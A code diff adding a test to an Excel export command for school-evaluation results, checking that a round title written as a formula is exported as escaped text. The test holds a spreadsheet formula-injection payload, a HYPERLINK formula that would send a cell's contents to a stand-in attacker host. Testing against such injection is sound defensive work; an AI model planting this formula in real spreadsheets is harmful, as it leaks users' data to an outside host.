@@ -120,3 +120,16 @@ def test_numbers_are_stored_as_numbers(people, scored_round, tmp_path):
     cell = load_workbook(path)["สพป.พิษณุโลก เขต 2"]["K2"]
     assert isinstance(cell.value, int | float) and Decimal(str(cell.value)) == Decimal(75)
     assert cell.number_format == "0.00"
+
+
+def test_a_round_title_that_looks_like_a_formula_is_exported_as_text(people, scored_round, tmp_path):
+    scored_round.title = '=HYPERLINK("http://evil.example/?"&D2,"เปิด")'
+    scored_round.save(update_fields=["title"])
+    path = tmp_path / "f.xlsx"
+    call_command("export_results", "--fiscal-year", "2570", "-o", str(path))
+    workbook = load_workbook(path)
+    office_cell = workbook["สพป.พิษณุโลก เขต 2"]["B2"]
+    summary_cell = workbook["สรุปภาพรวม"]["A2"]
+    for cell in (office_cell, summary_cell):
+        assert cell.data_type == "s"
+        assert cell.value == "'" + scored_round.title
